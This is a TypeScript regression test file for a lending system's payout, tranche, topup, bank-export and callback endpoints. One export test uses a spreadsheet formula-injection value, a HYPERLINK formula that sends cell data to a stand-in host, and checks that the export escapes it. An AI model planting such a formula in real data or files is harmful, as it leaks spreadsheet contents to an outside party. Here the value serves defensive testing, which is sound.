// Regressions from the money-out review: each case paid out, or could pay out, what it should not.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { addDays } from '../../src/domain/dates.js';
import { newId } from '../../src/domain/ids.js';
import { istDateOf } from '../../src/domain/time.js';
import { gstinCheckChar } from '../../src/modules/topups/invoice.js';
import { buildTestApp, createTenant, type Tenant, type TestContext } from '../helpers/app.js';
import { accountWithParams } from '../helpers/factories.js';

let ctx: TestContext;
let tenant: Tenant;
beforeAll(async () => {
  ctx = await buildTestApp();
  tenant = await createTenant(ctx, 'review-payouts');
});
afterAll(async () => { await ctx.close(); });

type Role = 'admin' | 'maker' | 'checker' | 'viewer';
const BANK = { account_no: '50100012345678', ifsc: 'HDFC0001234', account_holder_name: 'Borrower' };
const BULLET = { days_in_year: 360, tenure_period: 'days', tenure_value: 60, roi_slab_based: true, roi_value: [{ days: -1, value: 18 }] };
const today = () => istDateOf(new Date());
const by = () => ({ companyId: tenant.companyId, actor: 'test' });
const post = (url: string, body: object, role: Role = 'maker') => ctx.http().post(url).set('Authorization', tenant.bearer(role)).send(body);
const put = (url: string, body: object, role: Role = 'checker') => ctx.http().put(url).set('Authorization', tenant.bearer(role)).send(body);
const patch = (url: string, body: object, role: Role = 'maker') => ctx.http().patch(url).set('Authorization', tenant.bearer(role)).send(body);
const processed = (id: string, bankDate = today()) => put(`/v1/lms/payouts/${id}/process/`, { status: 'processed', utr: `U${newId().slice(0, 8)}`, bank_date: bankDate });
const failed = (id: string) => put(`/v1/lms/payouts/${id}/process/`, { status: 'failed', failed_remark: 'returned' });

async function multiTranche(params: Record<string, unknown> | undefined, amount: number, sanctioned: number, bankDate = today()) {
  const account = await accountWithParams(ctx, tenant.companyId, params);
  const res = await post(`/v1/lms/accounts/${account.id}/initiate_disbursement/`, { amount, sanctioned_amount: sanctioned, credit_bank: BANK });
  expect(res.status).toBe(201);
  expect((await processed(res.body.payout.id, bankDate)).status).toBe(200);
  return { account, loan: res.body };
}

describe('tranches', () => {
  it('a retried tranche is checked against the sanctioned room again', async () => {
    const { loan } = await multiTranche(undefined, 100000, 150000);
    const a = await post('/v1/lms/payouts/add_tranche/', { loan_id: loan.id, amount: 50000 });
    await failed(a.body.id);
    const b = await post('/v1/lms/payouts/add_tranche/', { loan_id: loan.id, amount: 50000 });
    expect(b.status).toBe(200);
    const retry = await put(`/v1/lms/payouts/${a.body.id}/retry/`, {}, 'maker');
    expect(retry.status).toBe(409);
    expect(retry.body.errors).toHaveProperty('amount');
  });

  it('a bullet loan that was paid into takes no tranche, before any money leaves', async () => {
    const { account, loan } = await multiTranche(BULLET, 100000, 200000, addDays(today(), -5));
    const record = await ctx.app.services.records.create(by(), { account: account.id, received_amount: 100_00n });
    await ctx.app.services.records.markProcessed(by(), record.id, { utr: `T${Date.now()}`, settled_at: new Date() });
    const res = await post('/v1/lms/payouts/add_tranche/', { loan_id: loan.id, amount: 1000 });
    expect(res.status).toBe(409);
    expect(res.body.errors).toHaveProperty('loan_id');
  });

  it('a frozen account draws nothing: no tranche, no retry, no new payout', async () => {
    const { account, loan } = await multiTranche(undefined, 1000, 5000);
    const t = await post('/v1/lms/payouts/add_tranche/', { loan_id: loan.id, amount: 1000 });
    await failed(t.body.id);
    const pending = await post(`/v1/lms/accounts/${account.id}/initiate_disbursement/`, { amount: 500 });
    await put(`/v1/lms/payouts/${pending.body.payout.id}/cancel/`, {});
    const other = await post(`/v1/lms/accounts/${account.id}/initiate_disbursement/`, { amount: 500 });
    await failed(other.body.payout.id);
    await ctx.app.services.accounts.update(by(), account.id, { status: 'frozen' });
    expect((await post('/v1/lms/payouts/add_tranche/', { loan_id: loan.id, amount: 100 })).status).toBe(409);
    expect((await put(`/v1/lms/payouts/${t.body.id}/retry/`, {}, 'maker')).status).toBe(409);
    expect((await put(`/v1/lms/payouts/${other.body.payout.id}/retry/`, {}, 'maker')).status).toBe(409);
    const created = await post('/v1/lms/payouts/', { loan: pending.body.id });
    expect(created.status).toBe(409);
    expect(created.body.errors).toHaveProperty('account');
  });
});

describe('topups', () => {
  const invoice = { invoice_number: `INV-DUP-${newId().slice(-6)}`, invoice_date: addDays(today(), -3), invoice_amount: 200000, anchor_id: 'anchor-x' };

  it('a failed topup is not paid again once another topup financed its invoice (Retry Failed Payout)', async () => {
    const account = await accountWithParams(ctx, tenant.companyId, BULLET);
    const t1 = await post('/v1/lms/topups/', { account: account.id, amount: 1000, credit_bank: BANK, ...invoice });
    expect(t1.body.status).toBe('payout_initiated');
    await failed(t1.body.payout);
    const t2 = await post('/v1/lms/topups/', { account: account.id, amount: 1000, credit_bank: BANK, ...invoice });
    expect(t2.body.status).toBe('payout_initiated');
    const retry = await put(`/v1/lms/payouts/${t1.body.payout}/retry/`, {}, 'maker');
    expect(retry.status).toBe(409);
    expect(retry.body.errors).toHaveProperty('invoice_number');
    expect((await ctx.http().get(`/v1/lms/topups/${t1.body.id}/`).set('Authorization', tenant.bearer('viewer'))).body.status).toBe('failed');
  });

  it('one IRN on two accounts at once: exactly one topup goes on', async () => {
    const irn = (newId() + newId()).replace(/-/g, '').slice(0, 64);
    const gstin = (first14: string) => `${first14}${gstinCheckChar(first14)}`;
    const doc = (no: string) => ({
      Version: '1.1', Irn: irn, DocDtls: { Typ: 'INV', No: no, Dt: today().split('-').reverse().join('/') },
      SellerDtls: { Gstin: gstin('29AABCT1332L1Z') }, BuyerDtls: { Gstin: '27AAPFU0939F1ZV' }, ValDtls: { TotInvVal: 5000 },
    });
    const topups = await Promise.all([1, 2].map(async () => {
      const account = await accountWithParams(ctx, tenant.companyId, BULLET);
      // A topup waiting on its invoice: no invoice amount yet, so its bounds check fails.
      const res = await post('/v1/lms/topups/', { account: account.id, amount: 1000, credit_bank: BANK, invoice_amount: 1 });
      expect(res.body.status).toBe('checks_failed');
      return res.body.id as string;
    }));
    const results = await Promise.all(topups.map((id, i) => patch(`/v1/lms/topups/${id}/invoice_parse/`, doc(`IRN-${i}`))));
    expect(results.map((r) => r.status)).toEqual([200, 200]);
    expect(results.map((r) => r.body.status).sort()).toEqual(['checks_failed', 'payout_initiated']);
  });

  it("a topup in an approved group cannot be changed after the checker's approval", async () => {
    const account = await accountWithParams(ctx, tenant.companyId, BULLET);
    const group = await post('/v1/lms/topup_groups/', { name: 'Approved batch' });
    const t = await post('/v1/lms/topups/', { account: account.id, amount: 1000, topup_group: group.body.id, disbursement_date: addDays(today(), 3), credit_bank: BANK });
    expect((await patch(`/v1/lms/topup_groups/${group.body.id}/`, { status: 'approved' }, 'checker' as Role)).status).toBe(200);
    const edit = await patch(`/v1/lms/topups/${t.body.id}/`, { amount: 900, credit_bank: { ...BANK, account_no: '99999999999' } });
    expect(edit.status).toBe(409);
    expect(edit.body.errors).toHaveProperty('topup_group');
  });
});

describe('bank export', () => {
  it('escapes spreadsheet formulas in names', async () => {
    const account = await accountWithParams(ctx, tenant.companyId);
    const evil = { ...BANK, account_holder_name: '=HYPERLINK("http://x.example/?"&A1,"Click")' };
    const res = await post(`/v1/lms/accounts/${account.id}/initiate_disbursement/`, { amount: 100, credit_bank: evil });
    const file = await put('/v1/lms/payouts/export/', { ids: [res.body.payout.id] }, 'maker');
    expect(file.text).not.toMatch(/,"?=HYPERLINK/);
    expect(file.text).toContain("'=HYPERLINK");
  });

  it('payouts without a beneficiary never hold up the ones that have one', async () => {
    const account = await accountWithParams(ctx, tenant.companyId);
    const bare = await post(`/v1/lms/accounts/${account.id}/initiate_disbursement/`, { amount: 100 });
    const good = await post(`/v1/lms/accounts/${account.id}/initiate_disbursement/`, { amount: 200, credit_bank: BANK });
    const result = await ctx.app.services.payoutExports.export(by(), { ids: [bare.body.payout.id, good.body.payout.id], limit: 1 });
    expect(result.exported.map((p) => p.id)).toEqual([good.body.payout.id]);
    expect(result.skipped.map((s) => s.id)).toEqual([bare.body.payout.id]);
  });
});

describe('payout callbacks and outcomes', () => {
  async function signedCallback(body: object | string) {
    const secret = (await post('/v1/lms/company/payout_callback_secret/', {}, 'admin')).body.secret as string;
    const raw = typeof body === 'string' ? body : JSON.stringify(body);
    const { signCallback } = await import('../../src/modules/payouts/callbacks.js');
    return ctx.http().post('/v1/lms/payouts/callback/').set('content-type', 'application/json')
      .set('x-lms-company', tenant.companyId).set('x-lms-signature', signCallback(secret, raw)).send(raw);
  }

  it('a success the loan refuses is kept as unmatched with the reason, and nothing of it applies', async () => {
    const account = await accountWithParams(ctx, tenant.companyId, BULLET);
    const res = await post(`/v1/lms/accounts/${account.id}/initiate_disbursement/`, { amount: 1000, credit_bank: BANK });
    // Make the pending loan unschedulable: the terms lose their tenure.
    const loan = await ctx.db.prisma.loan.findUniqueOrThrow({ where: { id: res.body.id } });
    await ctx.db.prisma.loan.update({ where: { id: loan.id }, data: { terms: { ...(loan.terms as object), tenure_value: 0 } } });
    const cb = await signedCallback({ reference: res.body.payout.bank_reference, status: 'processed', utr: 'REFUSED1' });
    expect(cb.status).toBe(200);
    expect(cb.body.outcome).toBe('unmatched');
    const kept = (await ctx.http().get('/v1/lms/payouts/unmatched/?page_size=100').set('Authorization', tenant.bearer('viewer'))).body.results
      .find((c: { id: string }) => c.id === cb.body.callback);
    expect(kept.detail).toMatch(/^refused: /);
    expect((await ctx.http().get(`/v1/lms/payouts/${res.body.payout.id}/`).set('Authorization', tenant.bearer('viewer'))).body.status).toBe('requested');
  });

  it('a body with a byte-order mark is stored as sent; a future or absurd bank date is a 400', async () => {
    const account = await accountWithParams(ctx, tenant.companyId);
    const res = await post(`/v1/lms/accounts/${account.id}/initiate_disbursement/`, { amount: 100, credit_bank: BANK });
    const bom = await signedCallback(`\uFEFF${JSON.stringify({ reference: 'PAY-NONE-1', status: 'failed' })}`);
    expect(bom.status).toBe(200);
    expect((await put(`/v1/lms/payouts/${res.body.payout.id}/process/`, { status: 'processed', utr: 'F1', bank_date: addDays(today(), 1) })).body.errors).toHaveProperty('bank_date');
    expect((await put(`/v1/lms/payouts/${res.body.payout.id}/process/`, { status: 'processed', utr: 'F1', bank_date: '0100-01-01' })).body.errors).toHaveProperty('bank_date');
    expect((await signedCallback({ reference: res.body.payout.bank_reference, status: 'processed', utr: 'F2', bank_date: '9999-12-31' })).status).toBe(400);
  });

  it('the unauthenticated callback route refuses an oversized body without holding it', async () => {
    const big = 'x'.repeat(2 * 1024 * 1024);
    const res = await ctx.http().post('/v1/lms/payouts/callback/').set('content-type', 'application/json').send(`{"reference":"${big}"}`);
    expect(res.status).toBe(413);
  });
});
